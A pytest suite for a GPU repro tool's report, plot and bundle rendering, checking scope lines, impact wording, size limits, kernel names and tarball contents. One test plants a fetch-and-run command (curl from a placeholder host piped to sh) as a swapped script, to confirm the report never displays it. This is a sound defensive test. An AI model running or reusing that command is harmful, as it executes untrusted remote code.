"""The report as evidence a maintainer acts on: qualifiers, impact, scope, the size budget, kernel names, plots."""

from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

import pytest
from helpers import ROOT
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from repro.cli.main import app
from repro.core import jsonfit
from repro.core.kernelnames import short_names
from repro.evidence import artifact, bundle, markdown, plots, seeds
from repro.evidence.report import PASTE_LIMIT, PASTE_LINES, report
from repro.run import scripts

RUN = ROOT / "artifacts" / "reference" / "h200" / "paired" / "all" / "20261129T233452Z-51a4de"
REPORTS = sorted((ROOT / "artifacts" / "reference").rglob("report.md"))


@pytest.fixture(scope="module")
def docs() -> list[dict[str, Any]]:
    return [artifact.load(p) for p in artifact.expand([RUN])]


def _report(docs: list[dict[str, Any]], **kw: Any) -> str:
    """The report as the CLI renders it: with what the catalog declares for these (schema 1.1) artifacts."""
    return report(docs, declared=scripts.declared(docs), **kw)


def _by_id(docs: list[dict[str, Any]], rid: str) -> dict[str, Any]:
    return next(d for d in docs if d["repro"]["id"] == rid)


def _summary_row(text: str, rid: str) -> str:
    return next(ln for ln in text.splitlines() if ln.startswith(f"| {rid} |"))


def _section(text: str, rid: str) -> str:
    """A repro's section: from its heading to the next heading (its details block included)."""
    return text.split(f"## `{rid}`", 1)[1].split("\n## ", 1)[0]


def _scope_line(text: str, rid: str) -> str:
    lines = [ln for ln in _section(text, rid).splitlines() if ln.startswith(("- Holds for: ", "- Does not hold for: "))]
    return "\n".join(lines)


def _json_blocks(text: str) -> list[str]:
    return re.findall(r"(?s)```json\n(.*?)\n```", text)


def test_scope_lines_carry_their_qualifiers_from_structured_fields(docs: list[dict[str, Any]]) -> None:
    text = _report(docs)
    solve = _scope_line(text, "solve-512-cliff")
    assert solve.startswith("- Holds for: cusolver backend, batch 128")  # reproduced: what it holds for
    assert "- Does not hold for: default backend (MAGMA here): at most 0.97x" in solve
    assert "pure CUDA twin (headline); torch graph: 1.30x" in _scope_line(text, "graph-memset")
    lora = _scope_line(text, "lora-batch-scaling")
    assert lora.startswith("- Does not hold for: batch 2, no memory cap (headline)")  # not reproduced
    assert "fp32 (TF32 off) (headline); tf32: 0.59x" in _scope_line(text, "5090-linear")
    # From the breakdown rows, not the prose: change a qualifier and the line follows.
    changed = copy.deepcopy(_by_id(docs, "solve-512-cliff"))
    for row in changed["verdict"]["breakdown"]:
        row["backend"] = {"default": "magma", "cusolver": "cusolver"}[row["backend"]]
    assert "magma backend: at most 0.97x" in _scope_line(_report([changed]), "solve-512-cliff")


def test_impact_is_said_only_for_what_reproduced_with_this_runs_cost(docs: list[dict[str, Any]]) -> None:
    text = _report(docs)
    reproduced = {d["repro"]["id"] for d in docs if d["verdict"]["status"] == "reproduced"}
    assert reproduced == {"graph-memset", "solve-512-cliff"}
    for d in docs:  # 1.1 artifacts: the impact comes from the catalog lookup the caller passes in
        rid = d["repro"]["id"]
        assert ("\n- Impact: " in _section(text, rid)) == (rid in reproduced), rid
    solve = next(ln for ln in _section(text, "solve-512-cliff").splitlines() if ln.startswith("- Impact: "))
    assert "per call (108 ms against 11.2 ms); where it ran the other way, per call: " in solve
    assert "- Impact: where it held: " in solve
    doc = copy.deepcopy(_by_id(docs, "solve-512-cliff"))
    doc["repro"]["impact"] = "Declared in the artifact."
    assert "Declared in the artifact. Here: +" in report([doc])  # without the catalog's words: the artifact's
    for status in ("not_reproduced", "skipped", "error", "smoke"):
        doc["verdict"]["status"] = status
        assert "Impact" not in _report([doc]), status


def test_not_tested_here_lists_skips_missing_seed_gpus_and_the_one_stack(docs: list[dict[str, Any]]) -> None:
    text = _report(docs)
    scope = text.split("## Not tested here", 1)[1].split("\n## ", 1)[0]
    assert "TE FusedAdam" in scope and "transformer" in scope
    assert "RTX 5090 (5090-linear, lora-batch-scaling)" in scope and "GB300" in scope and "RTX 6000 Ada" in scope
    assert "This run had" not in scope  # the header names the GPU
    assert "One software stack only (torch 2.11.0+cu130" in scope
    doc = copy.deepcopy(_by_id(docs, "5090-linear"))
    doc["repro"]["seed_gpus"] = ["H200"]  # a seed GPU this run had is not listed as missing
    assert "GPUs the seeds reported on" not in _report([doc])


def _worst_case(docs: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Five repros with an 81-variant solve sweep (synthetic: the real 24 variants' timings and
    kernels reused across n = 500..526 at three batches) and a long collect_env."""
    out = copy.deepcopy(docs)
    solve = _by_id(out, "solve-512-cliff")
    base = [v for v in solve["variants"] if v["status"] == "ok"]
    variants = []
    for i, (batch, n) in enumerate((b, n) for b in (16, 64, 128) for n in range(500, 527)):
        v = copy.deepcopy(base[i % len(base)])
        v["name"] = f"cusolver_b{batch}_n{n}"
        v["label"] = f"solve_ex {batch}x{n}x{n} (cusolver)"
        v["config"] = dict(v["config"], batch=batch, n=n, backend="cusolver")
        variants.append(v)
    solve["variants"] = variants
    solve["verdict"]["variants"] = ["cusolver_b128_n512", "cusolver_b128_n511"]
    for d in out:
        ce = d["fingerprint"]["collect_env"]["output"]
        d["fingerprint"]["collect_env"]["output"] = ce.replace("CPU:\n", "CPU:\n" + "Flags: x\n" * 3000)
    return out


def test_worst_case_report_fits_one_screen_and_keeps_evidence_intact(docs: list[dict[str, Any]]) -> None:
    worst = _worst_case(docs)
    assert len(_by_id(worst, "solve-512-cliff")["variants"]) == 81
    text = _report(worst)
    assert len(text) <= PASTE_LIMIT and text.count("\n") < PASTE_LINES, (len(text), text.count("\n"))
    assert not _json_blocks(text) and "Flags: x" not in text  # the JSON and the whole collect_env are in the bundle
    # The one machine once, in the pasted report unless the note says it went to the bundle's full report (the
    # sections and the Not-tested list come first); its libraries from collect_env and what the process loaded.
    env = text if "; the environment." not in text else _report(worst, limit=60_000, max_lines=None)
    assert env.count("<summary>machine A: fingerprint, GPU state") == 1 and "machine B" not in text
    # collect_env's library list is the first bulk to go (the note says so); what the process loaded stays.
    assert ("Versions of relevant libraries" in env) != ("collect_env's library list" in env)
    assert "Libraries loaded (from /proc/self/maps)" in env and "cusolver 12.0.4" in env
    assert "`20261129T233452Z-51a4de.bundle.tar.gz`" in text
    # A details block that does not fit is left to the bundle, largest first, and the note names it.
    left = re.search(r"[:;] the details of ([^;.]+)[;.]", text)
    dropped = left.group(1).split(", ") if left else ["all"] * 5 if "every repro's details" in text else []
    assert text.count("Script: `scripts/") == 5 - len(dropped)
    # The 81-variant sweep's own details block, when there is room for it, tables the compared pair only.
    whole = _report(worst, limit=60_000, max_lines=None)
    assert "| solve_ex 128x512x512 (cusolver) |" in whole and "| variant (79 more in the artifact) |" in whole


def test_fit_json_cuts_only_at_element_boundaries() -> None:
    value = {"a": list(range(5000)), "b": {"c": ["x" * 50] * 300, "d": {"e": {"f": [1, 2, 3]}}}, "s": "y" * 9000}
    for limit in (200, 800, 3000, 20000):
        text, cut = jsonfit.fit_json(value, limit)
        assert cut and (text == "" or len(text) <= limit)
        if text:
            json.loads(text)
    assert jsonfit.fit_json({"a": 1}, 100) == (json.dumps({"a": 1}, indent=1), False)


def test_collect_env_keeps_its_library_section() -> None:
    out = (RUN / "5090-linear.json").read_text()
    ce = json.loads(out)["fingerprint"]["collect_env"]["output"]
    short = jsonfit.shorten_collect_env(ce + "\n" * 0, 2500)
    assert len(short) <= 2600 and "Versions of relevant libraries" in short
    assert short.split("Versions of relevant libraries", 1)[1] == ce.split("Versions of relevant libraries", 1)[1]


def test_kernel_names_are_short_and_tell_apart(docs: list[dict[str, Any]]) -> None:
    adam = _by_id(docs, "fused-adam-capturable")
    names = [k["name"] for v in adam["variants"] for k in v["kernels"]]
    short = short_names(names)
    assert len(set(short.values())) == len(set(names))
    assert all(len(s) <= 95 for s in short.values())
    assert "multi_tensor_apply_kernel<FusedOptimizerTensorListMetadata, FusedAdamMathFunctor>" in short.values()
    assert short_names(["Memset (Device)", "Memset (Unknown)"]) == {
        "Memset (Device)": "Memset (Device)",
        "Memset (Unknown)": "Memset (Unknown)",
    }
    text = _report([adam])
    cells = [ln.split(" | ")[0] for ln in text.splitlines() if ln.startswith("| `")]
    assert len(cells) == len(set(cells)) and not any("anonymou" in c for c in cells)


def test_one_kernel_diff_per_repro_and_small_percentages(docs: list[dict[str, Any]]) -> None:
    text = _report(docs, limit=10**9, max_lines=None)  # whole: a pasted report may leave the tables out
    for d in docs:
        section = _section(text, d["repro"]["id"])
        assert section.count("- Kernels, ") <= 1
        bullets = re.findall(r"(?m)^  - .*us/call\)?$", section)
        assert len(bullets) <= 3
    assert (
        "- Kernels, solve_ex 128x511x511 (cusolver) -> solve_ex 128x512x512 (cusolver) (kernel time per call " in text
    )
    assert "0.21% of fp32" in text and "(0% of" not in text
    pct = markdown.fmt_pct
    assert pct(96.4) == "96%" and pct(4.23) == "4.2%" and pct(0.0021) == "0.0021%"


def test_standalone_script_of_an_old_artifact_is_what_repro_script_prints(docs: list[dict[str, Any]]) -> None:
    script = scripts.regenerate(_by_id(docs, "solve-512-cliff"))[0]
    assert script and "('cusolver/b128', 'cusolver', 128)" in script and "('default/b16', 'default', 16)" in script
    memset, _ = scripts.regenerate(_by_id(docs, "graph-memset"))  # the twin headline: a bash script, .cu inside
    assert memset is not None and memset.startswith("#!/usr/bin/env bash")
    text = _report(docs)
    said = "# this run predates harness digests: harness 0.1.0, commit 86fbd015412f36e83090fd6f1003545dcee2b5a4"
    assert text.count(said) == 1 and "pip install ./" not in text and "<org>" not in text


def test_a_script_recorded_in_the_artifact_is_never_shown(docs: list[dict[str, Any]]) -> None:
    doc = copy.deepcopy(_by_id(docs, "5090-linear"))
    doc["repro"]["script"] = "import os\nos.system('curl https://example.invalid | sh')  # SWAPPED"
    bare = report([doc])  # no catalog lookup passed in: no script, and one line saying so
    assert "SWAPPED" not in bare and "Script: `" not in bare
    assert "No standalone script could be regenerated here (the report was rendered without the catalog)." in bare
    shown = _report([doc])  # regenerated from the catalog's code: named, and packed into the bundle, not pasted
    assert "SWAPPED" not in shown
    assert "Script: `scripts/5090-linear.py` in the bundle" in shown
    assert "```python" not in shown
    unknown = copy.deepcopy(doc)
    unknown["repro"]["id"] = "not-in-this-catalog"
    text = _report([unknown])
    assert "SWAPPED" not in text and "Script: `" not in text
    assert "regenerated here (not-in-this-catalog is not in this installation's catalog)" in text


def test_rendering_reads_no_plugin_registry() -> None:
    code = (
        "import sys\n"
        "from repro.evidence import artifact, compare, plots, report, scope, standalone\n"
        "docs = [artifact.load(p) for p in artifact.expand([sys.argv[1]])]\n"
        "report.report(docs, figures=plots.describe(docs))\n"
        "print(sorted(m for m in sys.modules if m.startswith(('repro.run', 'repro.repros', 'repro.api'))))\n"
    )
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    out = subprocess.run([sys.executable, "-c", code, str(RUN)], env=env, capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


# --------------------------------------------------------------------------- plots


def test_plots_are_drawn_with_units_and_referenced_with_their_finding(
    docs: list[dict[str, Any]], tmp_path: Path
) -> None:
    pytest.importorskip("matplotlib")
    figs = plots.figures(docs, tmp_path, declared=scripts.declared(docs))
    assert {f.file for f in figs} == {"plots/solve-512-cliff.n.png", "plots/lora-batch-scaling.batch.png"}
    for f in figs:
        assert f.drawn and (tmp_path / f.file).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    solve = next(f for f in figs if f.repro_id == "solve-512-cliff")
    assert "9.66x (backend cusolver, batch 128, from 511 to 512)" in solve.alt
    text = _report(docs, figures=figs, limit=10**9, max_lines=None)  # whole: plots may be left to the bundle
    assert f"![{markdown.text(solve.alt)}](plots/solve-512-cliff.n.png)" in text
    # Never overwritten: a second pass keeps the file as it is.
    before = (tmp_path / solve.file).stat().st_mtime_ns
    plots.figures(docs, tmp_path, declared=scripts.declared(docs))
    assert (tmp_path / solve.file).stat().st_mtime_ns == before


def test_band_plot_labels_axes_with_units(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("matplotlib")
    from matplotlib.axes import Axes

    seen: dict[str, str] = {}
    real = Axes.set_ylabel

    def spy(self: Axes, label: str, *a: Any, **k: Any) -> Any:
        seen["y"] = label
        return real(self, label, *a, **k)

    monkeypatch.setattr(Axes, "set_ylabel", spy)
    s = plots.Series("a", (1.0, 2.0), (2e-3, 4e-3), (1.9e-3, 3.8e-3), (2.1e-3, 4.2e-3))
    plots.band_plot(tmp_path / "p.png", [s], title="t", x_label="batch size (samples)", y_label="time")
    assert seen["y"] == "time (ms)"
    with pytest.raises(FileExistsError):
        plots.band_plot(tmp_path / "p.png", [s], title="t", x_label="x", y_label="time")


def test_without_matplotlib_the_report_says_how_to_draw(
    docs: list[dict[str, Any]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(plots, "available", lambda: "matplotlib is not installed here")
    figs = plots.figures(docs, tmp_path, declared=scripts.declared(docs))
    assert figs and not any(f.drawn for f in figs) and not (tmp_path / "plots").exists()
    text = _report(docs, figures=figs, limit=10**9, max_lines=None)  # whole: plots may be left to the bundle
    assert "not drawn (matplotlib is not installed here; pip install 'gpu-repro\\[plots\\]'" in text
    assert "It would show: median time per solve\\_ex call" in text or "It would show: median time per solve_ex" in text


def test_repro_report_out_draws_plots_beside_the_report_and_bundle_packs_them(tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    run = tmp_path / RUN.name
    shutil.copytree(RUN, run)
    res = CliRunner().invoke(app, ["report", str(run), "--out", str(run / "report.v2.md")])
    assert res.exit_code == 0, res.output
    assert (run / "plots" / "solve-512-cliff.n.png").is_file()
    written = (run / "report.v2.md").read_text()
    # The pasted report links the plot, or says it left the plots to the bundle (its report-full.md).
    assert "](plots/solve-512-cliff.n.png)" in written or ("plots" in written and "report-full.md" in written)
    again = CliRunner().invoke(app, ["report", str(run), "--out", str(run / "report.v2.md")])
    assert again.exit_code == 2 and "exists" in again.output

    (run / "packages.txt").write_text("# installed distributions\ntorch==2.11.0\n")
    (run / "attached").mkdir()
    (run / "attached" / "seeds_raw.log").write_text("--- 000: 9.35 s (rc 0)\n")
    (run / "attached" / "seeds_raw.py").write_text("print('the driver')\n")
    (run / "attached" / "core.bin").write_bytes(b"\0\1")  # not text by name: left out
    path = bundle.build(run)
    with tarfile.open(path) as tf:
        names = tf.getnames()
        assert f"{RUN.name}/plots/solve-512-cliff.n.png" in names
        assert f"{RUN.name}/packages.txt" in names  # the run's freeze goes with it
        assert f"{RUN.name}/attached/seeds_raw.log" in names and f"{RUN.name}/attached/core.bin" not in names
        readme = tf.extractfile(f"{RUN.name}/seeds/README.txt")
        said = readme.read() if readme is not None else b""
        assert b"attached/seeds_raw.log." in said and b"The script that ran them there: attached/seeds_raw.py." in said
        assert f"{RUN.name}/attached/seeds_raw.py" in names
        # The seeds' own programs, for each repro of the run that has one, as the package holds them.
        assert f"{RUN.name}/seeds/README.txt" in names
        for rid, files in seeds.programs().items():
            for fname, body in files.items():
                member = tf.extractfile(f"{RUN.name}/seeds/{rid}/{fname}")
                assert member is not None and member.read().decode() == body
    # attached/ as a whole has a size limit: what does not fit is left out and named, never a failed bundle.
    for k in range(10):
        (run / "attached" / f"big{k}.log").write_bytes(os.urandom(bundle.LOG_TAIL // 2).hex().encode())
    _, plan = bundle.plan(run)
    kept = sum(len(d) for n, d in plan.members if "/attached/" in n)
    assert kept <= bundle.ATTACHED_LIMIT + 1024
    assert any(x["name"].startswith("attached/big") and "more than" in x["reason"] for x in plan.left_out)


def test_an_attached_artifact_is_packed_whole_or_left_out_never_cut(tmp_path: Path) -> None:
    run = tmp_path / RUN.name
    shutil.copytree(RUN, run)
    (run / "attached").mkdir(exist_ok=True)
    whole = json.dumps({"rounds": list(range(150_000))})  # about 1 MB: over a log's tail, within the room
    assert bundle.LOG_TAIL < len(whole) < bundle.ATTACHED_LIMIT
    (run / "attached" / "rerun-x.json").write_text(whole)
    (run / "attached" / "long.log").write_text("x" * (bundle.LOG_TAIL + 10))
    path = bundle.build(run)
    with tarfile.open(path) as tf:
        got = tf.extractfile(f"{RUN.name}/attached/rerun-x.json")
        assert got is not None and json.loads(got.read()) == json.loads(whole)
        log = tf.extractfile(f"{RUN.name}/attached/long.log")
        assert log is not None and log.read().startswith(b"[... repro bundle: the first 10 bytes of this log were cut")
        manifest = json.loads(tf.extractfile(f"{RUN.name}/MANIFEST.json").read())  # type: ignore[union-attr]
        for entry in manifest["files"]:
            member = tf.extractfile(entry["name"])
            assert member is not None and hashlib.sha256(member.read()).hexdigest() == entry["sha256"]
    assert manifest["logs_cut_to_tail"] == [f"{RUN.name}/attached/long.log"]
    # Past the room left in attached/, an artifact is left out and named, not cut.
    (run / "attached" / "rerun-y.json").write_text(json.dumps({"rounds": list(range(600_000))}))
    _, plan = bundle.plan(run)
    names = [n for n, _ in plan.members]
    assert f"{RUN.name}/attached/rerun-y.json" not in names
    assert any(x["name"] == "attached/rerun-y.json" and "limit" in x["reason"] for x in plan.left_out)


# --------------------------------------------------------------------------- rendering


def _gfm_counts(text: str) -> dict[str, int]:
    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    html = md.render(text)
    return {
        "tables": html.count("<table>"),
        "details_open": len(re.findall(r"<details>", html)),
        "details_close": html.count("</details>"),
        "images": html.count("<img "),
    }


def _expected(text: str) -> dict[str, int]:
    outside = re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1\s*$", "", text)  # code fences hold no structure
    return {
        "tables": len(re.findall(r"(?m)^\|(?:-{3,}\|)+$|^\|[-| :]+\|$", outside)),
        "details_open": outside.count("<details>"),
        "details_close": outside.count("</details>"),
        "images": len(re.findall(r"!\[[^\n]*?\]\([^)\s]+\.png\)", outside)),
    }


@pytest.mark.parametrize("path", REPORTS, ids=[str(p.relative_to(ROOT / "artifacts" / "reference")) for p in REPORTS])
def test_committed_reports_render_with_tables_details_and_images_intact(path: Path) -> None:
    text = path.read_text()
    got, want = _gfm_counts(text), _expected(text)
    assert got == want, (got, want)
    assert got["details_open"] == got["details_close"]
    if shutil.which("cmark-gfm"):  # GitHub's own renderer agrees where it is installed
        html = subprocess.run(
            ["cmark-gfm", "-e", "table", "--unsafe"], input=text, capture_output=True, text=True, check=True
        ).stdout
        assert (html.count("<table>"), html.count("<details>"), html.count("<img ")) == (
            got["tables"],
            got["details_open"],
            got["images"],
        )


def test_a_fresh_report_renders_intact_too(docs: list[dict[str, Any]], tmp_path: Path) -> None:
    figs = plots.describe(docs, declared=scripts.declared(docs))
    figs = [plots.Figure(f.repro_id, f.sweep, f.file, f.alt, True) for f in figs]  # as if drawn
    text = _report(_worst_case(docs), figures=figs, limit=10**9, max_lines=None)  # whole, as the bundle has it
    got, want = _gfm_counts(text), _expected(text)
    # A plot lives in its repro's details block: one left to the bundle (the note names it) takes its plot along.
    left = re.search(r"[:;] the details of ([^;.]+)[;.]", text)
    images = sum(1 for f in figs if f.repro_id not in (left.group(1).split(", ") if left else []))
    assert got == want and got["images"] == images >= 1 and got["tables"] >= 9
    if shutil.which("cmark-gfm"):
        html = subprocess.run(
            ["cmark-gfm", "-e", "table", "--unsafe"], input=text, capture_output=True, text=True, check=True
        ).stdout
        assert html.count("<table>") == got["tables"] and html.count("<img ") == images
        assert html.count("<details>") == html.count("</details>") == got["details_open"]


def test_a_smoke_run_says_in_its_scope_that_it_proves_only_the_pipeline(docs: list[dict[str, Any]]) -> None:
    doc = copy.deepcopy(_by_id(docs, "5090-linear"))
    doc["run"].update(smoke=True, device="cpu")
    text = _report([doc])
    scope = text.split("## Not tested here", 1)[1]
    assert "5090-linear: a smoke run on cpu (shrunken sizes): it proves the pipeline, not the cliff." in scope
    assert "Script: `" not in text and "## Environment" not in text  # a smoke report stays short
    # A repro that did not run in a smoke run was not a smoke run either: one line, its own status.
    skipped = copy.deepcopy(doc)
    skipped["run"]["device"] = None
    skipped["verdict"].update(status="skipped", finding="Not measured: no CUDA device is visible to torch")
    scope = _report([skipped]).split("## Not tested here", 1)[1].split("\n## ", 1)[0]
    assert "5090-linear: not measured (skipped): no CUDA device is visible to torch" in scope
    assert "smoke run" not in scope


def test_two_machines_get_a_fingerprint_each_and_rows_say_which(docs: list[dict[str, Any]]) -> None:
    two = copy.deepcopy(docs[:2])
    two[1]["fingerprint"]["gpu"]["uuid"] = "another-gpu"
    two[1]["fingerprint"]["gpu"]["state"]["power_w"] = 1.0  # state alone never makes a machine
    text = _report(two)
    assert text.count(": fingerprint, GPU state") == 2
    assert "**Machine A** (used by 5090-linear)" in text and "**Machine B** (used by fused-adam-capturable)" in text
    assert "Fingerprint: machine B under Environment." in _section(text, "fused-adam-capturable")
    same = copy.deepcopy(docs[:2])
    same[1]["fingerprint"]["gpu"]["state"]["power_w"] = 1.0
    one = _report(same)
    assert one.count(": fingerprint, GPU state") == 1 and "Fingerprint: machine" not in one


def test_an_error_artifact_without_variants_still_reports(docs: list[dict[str, Any]]) -> None:
    doc = copy.deepcopy(_by_id(docs, "lora-batch-scaling"))
    doc["variants"] = []
    doc["verdict"].update(status="error", value=None, ci_low=None, ci_high=None, breakdown=[], variants=[])
    doc["verdict"]["finding"] = "Not measured: the repro crashed"
    doc["error"] = {"kind": "crash", "message": "segfault", "exit_code": -11, "signal": "SIGSEGV"}
    text = _report([doc])
    assert "lora-batch-scaling: not measured (error): the repro crashed" in text
    assert "Error (crash): segfault" in _section(text, "lora-batch-scaling")
    assert "Impact" not in text and "Re-run elsewhere" not in text  # nothing measured: nothing at stake, no band
